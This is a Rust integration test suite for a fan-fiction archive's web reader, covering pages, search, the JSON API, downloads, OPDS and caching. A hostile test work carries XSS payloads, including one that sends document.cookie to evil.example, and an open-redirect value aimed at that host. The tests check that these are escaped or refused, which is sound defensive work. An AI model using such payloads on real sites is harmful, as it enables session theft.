//! The web reader over real HTTP, on both homes of an archive: the shipped example works plus
//! one hostile work are imported, a server is started on a free port, and pages are fetched
//! the way a browser would.

use ficarchive_store::Archive;
use ficarchive_testkit::TestArchive;
use ficarchive_web::{AppState, Limits};
use reqwest::StatusCode;
use reqwest::header::{self, HeaderMap};
use std::sync::Arc;
use std::time::Duration;

/// A work whose every field tries to inject markup or script.
const HOSTILE: &str = "Title: <script>alert('title')</script> Night Shift\nAuthor: <img src=x onerror=alert(1)>\n\
Fandom: Original Work\nCharacters: <b onmouseover=alert(2)>Mallory</b>\nTags: javascript:alert(3), \"><svg onload=alert(4)>\n\
Rating: PG\nSummary: <a href=\"javascript:alert(5)\">click</a> </div></main> unclosed <i>markup\n\n\
The night clerk typed <script>document.location='http://evil.example/'+document.cookie</script> into the ledger.\n\n\
Then she wrote <iframe src=\"javascript:alert(6)\"></iframe> and went home.\n";

struct Server {
    base: String,
    client: reqwest::Client,
    app: Arc<AppState>,
    archive: TestArchive,
    task: tokio::task::JoinHandle<std::io::Result<()>>,
}

async fn start(t: TestArchive, limits: Limits) -> Server {
    let archive = Archive::open(&t.location).await.expect("open");
    let mut files = ficarchive_testkit::example_files();
    files.push(("hostile.txt".into(), HOSTILE.as_bytes().to_vec()));
    ficarchive_testkit::import_files(&archive, &files).await;
    let app = Arc::new(AppState::new(archive, "Test Archive").await.unwrap());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let task = tokio::spawn(ficarchive_web::serve(listener, ficarchive_web::router(app.clone()), limits, std::future::pending()));
    let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    Server { base, client, app, archive: t, task }
}

impl Server {
    async fn get(&self, path: &str) -> (StatusCode, HeaderMap, String) {
        self.get_with(path, &[]).await
    }

    async fn get_with(&self, path: &str, headers: &[(&str, &str)]) -> (StatusCode, HeaderMap, String) {
        let mut request = self.client.get(format!("{}{path}", self.base));
        for (k, v) in headers {
            request = request.header(*k, *v);
        }
        let response = request.send().await.unwrap();
        let status = response.status();
        let headers = response.headers().clone();
        (status, headers, response.text().await.unwrap())
    }

    /// The page's HTML, asserting a 200.
    async fn page(&self, path: &str) -> String {
        let (status, _, body) = self.get(path).await;
        assert_eq!(status, StatusCode::OK, "{path}: {body}");
        body
    }

    /// The id in the first `/PREFIX/ID` link whose text is `text` (as templates escape it).
    fn link_id(html: &str, prefix: &str, text: &str) -> i64 {
        let needle = format!(">{}</a>", template_text(text));
        let end = html.find(&needle).unwrap_or_else(|| panic!("no link {text:?} in page"));
        let start = html[..end].rfind(&format!("href=\"{prefix}")).unwrap() + 6 + prefix.len();
        html[start..end].split('"').next().unwrap().parse().unwrap()
    }

    async fn finish(self) {
        self.task.abort();
        self.archive.finish().await;
    }
}

async fn on_both(test: impl AsyncFn(&Server)) {
    for t in TestArchive::both().await {
        let name = t.name;
        let server = start(t, Limits::default()).await;
        eprintln!("-- {name}");
        test(&server).await;
        server.finish().await;
    }
}

/// Text as the templates escape it (metadata: titles, names, tags).
fn template_text(text: &str) -> String {
    text.replace('&', "&#38;").replace('\'', "&#39;").replace('<', "&#60;").replace('>', "&#62;").replace('"', "&#34;")
}

#[tokio::test]
async fn home_lists_recent_works_and_fandoms_with_counts() {
    on_both(async |s: &Server| {
        let home = s.page("/").await;
        assert!(home.contains("7 works."), "{home}");
        for title in ["The Salt Road", "Crossing the Tidewater", "The Cartographer's Apprentice", "Tea by the River"] {
            assert!(home.contains(&template_text(title)), "{title} missing from home");
        }
        // Both Nightfall Roads parts reach the canonical Buffy fandom.
        assert!(home.contains(">Buffy the Vampire Slayer</a> <span class=\"count\">(2)</span>"), "{home}");
        assert!(home.contains(">Original Work</a> <span class=\"count\">(2)</span>"));
    })
    .await;
}

#[tokio::test]
async fn a_reader_goes_from_home_through_the_chapters_to_the_entire_work() {
    on_both(async |s: &Server| {
        let home = s.page("/").await;
        let id = Server::link_id(&home, "/works/", "The Cartographer's Apprentice");
        let first = s.page(&format!("/works/{id}")).await;
        assert!(first.contains("Chapter 1: Blank Spaces") && first.contains("simply left <em>blank</em>"));
        assert!(!first.contains("The hill outside Ledbury"), "a work opens on its first chapter");
        assert!(first.contains(&format!("<link rel=\"next\" href=\"/works/{id}/chapters/2\">")));
        for tag in ["Teen And Up Audiences", "Hermione Granger/Luna Lovegood", "Luna Lovegood", "Maps"] {
            assert!(first.contains(&format!(">{tag}</a>")), "{tag} missing from the metadata block");
        }
        let second = s.page(&format!("/works/{id}/chapters/2")).await;
        assert!(second.contains("The hill outside Ledbury") && second.contains("Ginny shows up."));
        assert!(second.contains(&format!("href=\"/works/{id}/chapters/1\" rel=\"prev\">Previous chapter")));
        assert!(second.contains(&format!("href=\"/works/{id}/chapters/3\" rel=\"next\">Next chapter")));
        assert!(second.contains("<option value=\"2\" selected>"));
        let last = s.page(&format!("/works/{id}/chapters/3")).await;
        assert!(!last.contains("rel=\"next\">Next chapter"), "the last chapter has no next chapter");
        assert!(last.contains("Thank you for reading."), "end notes close the last chapter");

        // The entire-work switch shows every chapter and is remembered in the reader's cookie.
        let (status, headers, entire) = s.get(&format!("/works/{id}?view=entire")).await;
        assert_eq!(status, StatusCode::OK);
        for text in ["The Ministry", "The hill outside Ledbury", "By spring the north wall"] {
            assert!(entire.contains(text));
        }
        let cookie = headers.get(header::SET_COOKIE).unwrap().to_str().unwrap().split(';').next().unwrap().to_string();
        assert!(cookie.contains("view-entire"), "{cookie}");
        let (_, _, again) = s.get_with(&format!("/works/{id}"), &[("cookie", &cookie)]).await;
        assert!(again.contains("By spring the north wall") && again.contains("Chapter by chapter"));
        let (_, _, chapter) = s.get_with(&format!("/works/{id}/chapters/2"), &[("cookie", &cookie)]).await;
        assert!(!chapter.contains("By spring the north wall"), "a chapter link still shows one chapter");

        // Without JavaScript, the chapter menu goes through a redirect.
        let (status, headers, _) = s.get(&format!("/works/{id}/chapters?place=3")).await;
        assert_eq!(status, StatusCode::SEE_OTHER);
        assert_eq!(headers.get(header::LOCATION).unwrap(), &format!("/works/{id}/chapters/3"));
    })
    .await;
}

#[tokio::test]
async fn series_pages_list_parts_in_order_and_works_link_their_neighbours() {
    on_both(async |s: &Server| {
        let home = s.page("/").await;
        let part1 = Server::link_id(&home, "/works/", "The Salt Road");
        let part2 = Server::link_id(&home, "/works/", "Crossing the Tidewater");
        let work = s.page(&format!("/works/{part2}")).await;
        assert!(work.contains(&format!("href=\"/works/{part1}\" rel=\"prev\">&larr; Previous work")), "{work}");
        assert!(work.contains("Part 2 of"));
        let series = Server::link_id(&work, "/series/", "Nightfall Roads");
        let page = s.page(&format!("/series/{series}")).await;
        let (a, b) = (page.find("The Salt Road").unwrap(), page.find("Crossing the Tidewater").unwrap());
        assert!(a < b, "part 1 comes first");
        assert!(page.contains("A series of 2 works"));
    })
    .await;
}

#[tokio::test]
async fn author_and_series_indexes_list_every_name_with_its_works() {
    on_both(async |s: &Server| {
        let home = s.page("/").await;
        assert!(home.contains("<a href=\"/authors\">Authors</a>") && home.contains("<a href=\"/series\">Series</a>"), "{home}");

        let series = s.page("/series").await;
        let id = Server::link_id(&series, "/series/", "Nightfall Roads");
        assert!(series.contains(&format!("<a href=\"/series/{id}\">Nightfall Roads</a> <span class=\"count\">(2)</span>")), "{series}");
        assert!(s.page(&format!("/series/{id}")).await.contains("The Salt Road"));

        // Every author of a work is listed, and their page lists that work.
        let work = Server::link_id(&home, "/works/", "The Salt Road");
        let work_page = s.page(&format!("/works/{work}")).await;
        let link = "href=\"/authors/";
        let at = work_page.find(link).expect("the work links its author") + link.len();
        let author_id: i64 = work_page[at..].split('"').next().unwrap().parse().unwrap();
        let authors = s.page("/authors").await;
        assert!(authors.contains(&format!("href=\"/authors/{author_id}\"")), "{authors}");
        assert!(s.page(&format!("/authors/{author_id}")).await.contains("The Salt Road"));
        // Markup in an author's name is shown as text here too.
        assert!(authors.contains(&template_text("<img src=x onerror=alert(1)>")) && !authors.contains("<img src=x"), "{authors}");

        let (status, _, _) = s.get("/authors?page=0").await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
    })
    .await;
}

#[tokio::test]
async fn search_finds_story_text_and_filters_with_include_and_exclude() {
    on_both(async |s: &Server| {
        let found = s.page("/search?q=measuring+chain").await;
        assert!(found.contains("1 work found") && found.contains(&template_text("The Cartographer's Apprentice")));
        assert!(found.contains("<mark>measuring</mark>"), "the snippet highlights the match");

        // Every work, facet counts for all values, then an include and an exclude.
        let all = s.page("/search").await;
        assert!(all.contains("7 works found"));
        assert!(all.contains("Buffy the Vampire Slayer <span class=\"count\">(2)</span>"), "{all}");
        let with_buffy = s.page("/search?include=fandom%3ABuffy+the+Vampire+Slayer").await;
        assert!(with_buffy.contains("2 works found"));
        let without_buffy = s.page("/search?exclude=fandom%3ABuffy+the+Vampire+Slayer").await;
        assert!(without_buffy.contains("5 works found") && !without_buffy.contains("The Salt Road"));
        // The excluded value stays in the form, checked.
        assert!(without_buffy.contains("name=\"exclude\" value=\"fandom:Buffy the Vampire Slayer\" checked"));
        // Any spelling of a tag works, and the sort and rating facet apply together.
        let teen = s.page("/search?include=fandom%3ABtVS&include=rating%3ATeen+And+Up+Audiences&sort=title").await;
        assert!(teen.contains("1 work found") && teen.contains("The Salt Road"), "{teen}");
        let words = s.page("/search?words_min=300&sort=words&order=asc").await;
        assert!(words.contains("1 work found") && words.contains(&template_text("The Cartographer's Apprentice")), "{words}");
    })
    .await;
}

#[tokio::test]
async fn tag_pages_list_works_through_any_spelling() {
    on_both(async |s: &Server| {
        let home = s.page("/").await;
        let buffy = Server::link_id(&home, "/tags/", "Buffy the Vampire Slayer");
        let page = s.page(&format!("/tags/{buffy}")).await;
        assert!(page.contains("Buffy the Vampire Slayer (Fandoms)") && page.contains("2 works found"));
        assert!(page.contains("The Salt Road") && page.contains("Crossing the Tidewater"));
        let index = s.page("/tags?kind=character").await;
        assert!(index.contains("Drusilla"), "Dru is listed under its canonical name: {index}");
        assert!(!index.contains(">Dru<"));
    })
    .await;
}

#[tokio::test]
async fn unknown_and_malformed_addresses_get_friendly_pages() {
    on_both(async |s: &Server| {
        for path in ["/works/999999", "/works/abc", "/works/-1", "/works/1/chapters/99", "/tags/0", "/series/424242", "/authors/x", "/nope"]
        {
            let (status, headers, body) = s.get(path).await;
            assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
            assert!(headers.get(header::CONTENT_TYPE).unwrap().to_str().unwrap().starts_with("text/html"));
            assert!(body.contains("Not found") && body.contains("href=\"/search\""), "{path}: {body}");
        }
        let long = format!("/search?q={}", "a".repeat(5000));
        for path in
            ["/search?page=0", "/search?words_min=lots", "/search?q=%22open+quote", "/search?sort=random", "/tags?kind=nonsense", &long]
        {
            let (status, _, body) = s.get(path).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{path}");
            assert!(body.contains("could not be understood"), "{path}: {body}");
        }
        let (status, _, _) = s.get("/static/app.0000.css").await;
        assert_eq!(status, StatusCode::NOT_FOUND);
    })
    .await;
}

#[tokio::test]
async fn imported_markup_is_always_shown_as_text() {
    on_both(async |s: &Server| {
        let (_, _, search) = s.get("/search?q=night+clerk").await;
        let id = Server::link_id(&search, "/works/", "<script>alert('title')</script> Night Shift");
        let author = s.page("/works").await;
        let pages = [s.page(&format!("/works/{id}")).await, search, author, s.page("/tags?kind=freeform").await];
        for page in &pages {
            let lower = page.to_lowercase();
            for bad in ["<script>alert", "<img src=x", "<svg", "<iframe", "<b onmouseover", "href=\"javascript:", "<a href=\"javascript"] {
                assert!(!lower.contains(bad), "{bad} reached a page unescaped");
            }
            // The only script on any page is the site's own file.
            assert_eq!(lower.matches("<script").count(), 1);
        }
        let work = &pages[0];
        assert!(work.contains("&lt;script&gt;document.location="), "story text is shown, escaped");
        assert!(work.contains("&lt;a href=&quot;javascript:alert(5)&quot;&gt;click&lt;/a&gt;"), "summary is shown, escaped");
        assert!(work.trim_end().ends_with("</html>"), "broken markup in the summary does not break the page");
        assert_eq!(work.matches("</main>").count(), 1);
    })
    .await;
}

#[tokio::test]
async fn responses_carry_security_headers_validators_and_compression() {
    let s = start(TestArchive::sqlite(), Limits::default()).await;
    let (status, headers, body) = s.get("/").await;
    assert_eq!(status, StatusCode::OK);
    let csp = headers.get(header::CONTENT_SECURITY_POLICY).unwrap().to_str().unwrap();
    assert!(csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'") && !csp.contains("unsafe-inline"));
    assert_eq!(headers.get(header::X_CONTENT_TYPE_OPTIONS).unwrap(), "nosniff");
    assert_eq!(headers.get(header::REFERRER_POLICY).unwrap(), "same-origin");

    // A page the browser already has comes back as 304 without a body.
    let etag = headers.get(header::ETAG).unwrap().to_str().unwrap().to_string();
    let (status, _, body304) = s.get_with("/", &[("if-none-match", &etag)]).await;
    assert_eq!(status, StatusCode::NOT_MODIFIED);
    assert!(body304.is_empty());
    // A different reader setting is a different page.
    let (status, _, _) = s.get_with("/", &[("if-none-match", &etag), ("cookie", "reader=theme-dark")]).await;
    assert_eq!(status, StatusCode::OK);

    // Compressed on request (reqwest's gzip feature is off here: ask by hand, read raw bytes).
    let raw = s.client.get(format!("{}/", s.base)).header("accept-encoding", "gzip").send().await.unwrap();
    assert_eq!(raw.headers().get(header::CONTENT_ENCODING).unwrap(), "gzip");
    assert!(raw.bytes().await.unwrap().len() < body.len());

    // Assets have content-hashed names and a year-long lifetime.
    let css = body.split("href=\"/static/").nth(1).unwrap().split('"').next().unwrap();
    assert!(css.starts_with("app.") && css.ends_with(".css") && css.len() > "app..css".len() + 8, "{css}");
    let (status, headers, _) = s.get(&format!("/static/{css}")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(headers.get(header::CACHE_CONTROL).unwrap().to_str().unwrap().contains("immutable"));
    s.finish().await;
}

#[tokio::test]
async fn reading_settings_are_saved_in_a_cookie_and_applied_to_every_page() {
    let s = start(TestArchive::sqlite(), Limits::default()).await;
    let form = s.page("/preferences?back=%2Fworks").await;
    assert!(form.contains("name=\"theme\" value=\"auto\" checked"));
    let response = s
        .client
        .post(format!("{}/preferences", s.base))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("theme=sepia&font=sans&size=xl&width=narrow&spacing=loose&back=%2Fworks")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    assert_eq!(response.headers().get(header::LOCATION).unwrap(), "/works");
    let cookie = response.headers().get(header::SET_COOKIE).unwrap().to_str().unwrap().to_string();
    assert!(cookie.contains("HttpOnly") && cookie.contains("SameSite=Lax"));
    let pair = cookie.split(';').next().unwrap();
    for path in ["/", "/works", "/search?q=tea"] {
        let (_, _, page) = s.get_with(path, &[("cookie", pair)]).await;
        assert!(page.contains("class=\"theme-sepia font-sans size-xl width-narrow spacing-loose view-chapter\""), "{path}");
    }
    // Going back never leaves the site.
    let response = s.client.post(format!("{}/preferences", s.base)).body("theme=dark&back=%2F%2Fevil.example%2F").send().await.unwrap();
    assert_eq!(response.headers().get(header::LOCATION).unwrap(), "/");
    s.finish().await;
}

#[tokio::test]
async fn request_bodies_and_slow_clients_are_bounded() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let limits = Limits { header_timeout: Duration::from_millis(500), ..Limits::default() };
    let s = start(TestArchive::sqlite(), limits).await;
    let response = s.client.post(format!("{}/preferences", s.base)).body(vec![b'a'; 100_000]).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);

    // A client that never finishes its headers is disconnected.
    let mut slow = tokio::net::TcpStream::connect(s.base.trim_start_matches("http://")).await.unwrap();
    slow.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n").await.unwrap();
    let mut buffer = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(5), slow.read_to_end(&mut buffer)).await;
    assert!(read.is_ok(), "the server kept a half-open request past its header timeout");

    // Oversized headers are refused.
    let (status, _, _) = s.get_with("/", &[("x-filler", &"b".repeat(100_000))]).await;
    assert_eq!(status, StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE);
    s.finish().await;
}

#[tokio::test]
async fn the_json_api_answers_every_path_of_its_openapi_document() {
    on_both(async |s: &Server| {
        let (status, headers, body) = s.get("/api/openapi.json").await;
        assert_eq!(status, StatusCode::OK);
        assert!(headers.get(header::CONTENT_TYPE).unwrap().to_str().unwrap().starts_with("application/json"));
        let doc: serde_json::Value = serde_json::from_str(&body).unwrap();
        assert_eq!(doc["openapi"], "3.1.0");

        // Ids from the API itself: a multi-chapter work in a series, its author, a tag.
        let (_, _, list) = s.get("/api/v1/works?q=title%3Atidewater").await;
        let list: serde_json::Value = serde_json::from_str(&list).unwrap();
        assert_eq!(list["total"], 1, "{list}");
        let work = &list["works"][0];
        assert_eq!(work["title"], "Crossing the Tidewater");
        assert_eq!(work["tags"]["fandom"][0]["name"], "Buffy the Vampire Slayer");
        let work_id = work["id"].as_i64().unwrap();
        let ids = [
            ("series/{id}", work["series"][0]["id"].as_i64().unwrap()),
            ("authors/{id}", work["authors"][0]["id"].as_i64().unwrap()),
            ("tags/{id}", work["tags"]["fandom"][0]["id"].as_i64().unwrap()),
        ];
        let paths = doc["paths"].as_object().unwrap();
        assert_eq!(paths.len(), 7);
        for (path, spec) in paths {
            let id = ids.iter().find(|(suffix, _)| path.ends_with(suffix)).map_or(work_id, |(_, id)| *id);
            let concrete = path.replace("{id}", &id.to_string()).replace("{number}", "1");
            let (status, headers, body) = s.get(&concrete).await;
            assert_eq!(status, StatusCode::OK, "{concrete}: {body}");
            assert!(headers.get(header::CONTENT_TYPE).unwrap().to_str().unwrap().starts_with("application/json"), "{concrete}");
            let value: serde_json::Value = serde_json::from_str(&body).unwrap();
            // Every property the schema requires is there.
            let schema = spec["get"]["responses"]["200"]["content"]["application/json"]["schema"]["$ref"].as_str().unwrap();
            let schema = &doc["components"]["schemas"][schema.rsplit('/').next().unwrap()];
            for required in schema["required"].as_array().into_iter().flatten() {
                assert!(value.get(required.as_str().unwrap()).is_some(), "{concrete} lacks {required}");
            }
        }

        // Facets and filters as on the search page; chapter text both plain and as safe HTML.
        let (_, _, buffy) = s.get("/api/v1/works?include=fandom%3ABtVS&exclude=rating%3AGeneral+Audiences").await;
        let buffy: serde_json::Value = serde_json::from_str(&buffy).unwrap();
        assert_eq!(buffy["total"], 1);
        assert_eq!(buffy["works"][0]["title"], "The Salt Road");
        let (_, _, hostile) = s.get("/api/v1/works?q=night+clerk").await;
        let hostile: serde_json::Value = serde_json::from_str(&hostile).unwrap();
        let id = hostile["works"][0]["id"].as_i64().unwrap();
        let (_, _, chapter) = s.get(&format!("/api/v1/works/{id}/chapters/1")).await;
        let chapter: serde_json::Value = serde_json::from_str(&chapter).unwrap();
        assert!(chapter["text"].as_str().unwrap().contains("<script>document.location="), "plain text is the text as written");
        assert!(!chapter["html"].as_str().unwrap().contains("<script"), "the HTML form is escaped");

        // Errors are JSON with the status and a message.
        for (path, status) in
            [("/api/v1/works/999999", 404), ("/api/v1/works?page=0", 400), ("/api/v1/nothing", 404), ("/api/v1/tags?kind=x", 400)]
        {
            let (got, _, body) = s.get(path).await;
            assert_eq!(got.as_u16(), status, "{path}");
            let value: serde_json::Value = serde_json::from_str(&body).unwrap_or_else(|_| panic!("{path} did not answer JSON: {body}"));
            assert_eq!(value["error"]["status"], status);
        }
    })
    .await;
}

#[tokio::test]
async fn the_work_page_offers_downloads_that_are_whole_books() {
    on_both(async |s: &Server| {
        let home = s.page("/").await;
        let id = Server::link_id(&home, "/works/", "The Cartographer's Apprentice");
        let work = s.page(&format!("/works/{id}")).await;
        for ext in ["epub", "html", "txt"] {
            assert!(work.contains(&format!("href=\"/works/{id}/download.{ext}\" download>")), "{ext} link missing");
        }
        let response = s.client.get(format!("{}/works/{id}/download.epub", s.base)).header("accept-encoding", "gzip").send().await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        let headers = response.headers().clone();
        assert_eq!(headers[header::CONTENT_TYPE], "application/epub+zip");
        assert!(headers.get(header::CONTENT_ENCODING).is_none(), "an EPUB is a zip already: not compressed again");
        let disposition = headers[header::CONTENT_DISPOSITION].to_str().unwrap();
        assert!(disposition.starts_with(&format!("attachment; filename=\"The-Cartographer-s-Apprentice-{id}.epub\"")), "{disposition}");
        let bytes = response.bytes().await.unwrap();
        assert_eq!(&bytes[..4], b"PK\x03\x04");
        assert_eq!(&bytes[30..38], b"mimetype", "the mimetype entry comes first");

        let (status, headers, text) = s.get(&format!("/works/{id}/download.txt")).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(headers[header::CONTENT_TYPE], "text/plain; charset=utf-8");
        assert!(text.starts_with("The Cartographer's Apprentice\nby Tamsin_Reed\n"), "{text}");
        assert!(text.contains("Chapter 3:"));
        let (status, _, html) = s.get(&format!("/works/{id}/download.html")).await;
        assert_eq!(status, StatusCode::OK);
        assert!(html.contains("<a href=\"#chapter-3\">"));

        for missing in [format!("/works/{id}/download.pdf"), format!("/works/{id}/other.epub"), "/works/99999/download.epub".into()] {
            let (status, _, page) = s.get(&missing).await;
            assert_eq!(status, StatusCode::NOT_FOUND, "{missing}");
            assert!(page.contains("<h1"), "a friendly page for {missing}");
        }
    })
    .await;
}

#[tokio::test]
async fn the_opds_catalog_escapes_what_it_lists_and_refuses_bad_addresses() {
    on_both(async |s: &Server| {
        let (status, headers, recent) = s.get("/opds/recent").await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(headers[header::CONTENT_TYPE], "application/atom+xml;profile=opds-catalog;kind=acquisition");
        assert!(recent.contains("<opensearch:totalResults>7</opensearch:totalResults>"), "{recent}");
        assert!(!recent.contains("<script") && !recent.contains("<img") && !recent.contains("<svg onload"), "{recent}");
        assert!(recent.contains("&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt; Night Shift"), "{recent}");

        // A fandom facet narrows to that fandom, and says how many works it holds.
        let (_, _, works) = s.get("/opds/works").await;
        let facet = works.lines().find(|l| l.contains("title=\"Buffy the Vampire Slayer\"")).expect("a Buffy facet");
        assert!(facet.contains("opds:facetGroup=\"Fandoms\" opds:activeFacet=\"false\" thr:count=\"2\""), "{facet}");
        let href = facet.split("href=\"").nth(1).unwrap().split('"').next().unwrap().replace("&amp;", "&");
        let (_, _, buffy) = s.get(&href).await;
        assert_eq!(buffy.matches("<entry>").count(), 2, "{buffy}");
        assert!(buffy.contains("opds:facetGroup=\"Fandoms\" opds:activeFacet=\"true\""));

        let (status, headers, description) = s.get("/opds/search.xml").await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(headers[header::CONTENT_TYPE], "application/opensearchdescription+xml");
        assert!(description.contains("/opds/works?q={searchTerms}\"/>"), "{description}");

        for (path, expected) in [
            ("/opds/authors/99999", StatusCode::NOT_FOUND),
            ("/opds/series/abc", StatusCode::NOT_FOUND),
            ("/opds/recent?page=0", StatusCode::BAD_REQUEST),
            ("/opds/fandoms?page=x", StatusCode::BAD_REQUEST),
            ("/opds/works?q=%22unclosed", StatusCode::BAD_REQUEST),
        ] {
            assert_eq!(s.get(path).await.0, expected, "{path}");
        }
    })
    .await;
}

#[tokio::test]
async fn pages_are_kept_until_the_archive_changes() {
    on_both(async |s: &Server| {
        let mut marker = None;
        ficarchive_web::refresh(&s.app, &mut marker).await;
        let (_, first_headers, home) = s.get("/").await;
        assert!(home.contains("7 works."));
        let (_, again_headers, again) = s.get("/").await;
        assert_eq!(again, home, "the same page from the cache");
        assert_eq!(first_headers[header::ETAG], again_headers[header::ETAG]);
        let (status, _, _) = s.get_with("/", &[("if-none-match", first_headers[header::ETAG].to_str().unwrap())]).await;
        assert_eq!(status, StatusCode::NOT_MODIFIED, "a cached page still answers conditional requests");
        let (_, _, dark) = s.get_with("/", &[("cookie", "reader=theme-dark")]).await;
        assert!(dark.contains("theme-dark") && !home.contains("theme-dark"), "reading settings are part of the key");

        // A cached page carries the same headers as a rendered one, and goes out compressed
        // to a client that asks for it.
        for name in [header::CONTENT_SECURITY_POLICY, header::X_CONTENT_TYPE_OPTIONS, header::REFERRER_POLICY, header::X_FRAME_OPTIONS] {
            assert_eq!(again_headers.get(&name), first_headers.get(&name), "{name}");
            assert!(again_headers.contains_key(&name), "{name}");
        }
        for accept in ["gzip", "br;q=1.0, gzip;q=0.8, *;q=0.1"] {
            let response = s.client.get(format!("{}/", s.base)).header("accept-encoding", accept).send().await.unwrap();
            assert_eq!(response.headers()[header::CONTENT_ENCODING], "gzip", "{accept}");
            assert!(response.headers()[header::VARY].to_str().unwrap().to_ascii_lowercase().contains("accept-encoding"));
            let compressed = response.bytes().await.unwrap();
            let mut inflated = String::new();
            std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(&compressed[..]), &mut inflated).unwrap();
            assert_eq!(inflated, home, "the compressed page is the page");
        }
        let refused = s.client.get(format!("{}/", s.base)).header("accept-encoding", "gzip;q=0").send().await.unwrap();
        assert!(!refused.headers().contains_key(header::CONTENT_ENCODING), "gzip;q=0 refuses gzip");

        // Another process (here, another connection) imports a work.
        let writer = Archive::open(&s.archive.location).await.unwrap();
        let extra = (
            "late.txt".to_string(),
            b"Title: Late Arrival\nAuthor: Someone New\nFandom: Original Work\n\nShe came in after closing.\n".to_vec(),
        );
        ficarchive_testkit::import_files(&writer, &[extra]).await;
        writer.close().await;
        ficarchive_web::refresh(&s.app, &mut marker).await;
        let (_, _, fresh) = s.get("/").await;
        assert!(fresh.contains("8 works.") && fresh.contains("Late Arrival"), "the change empties the cache: {fresh}");
    })
    .await;
}
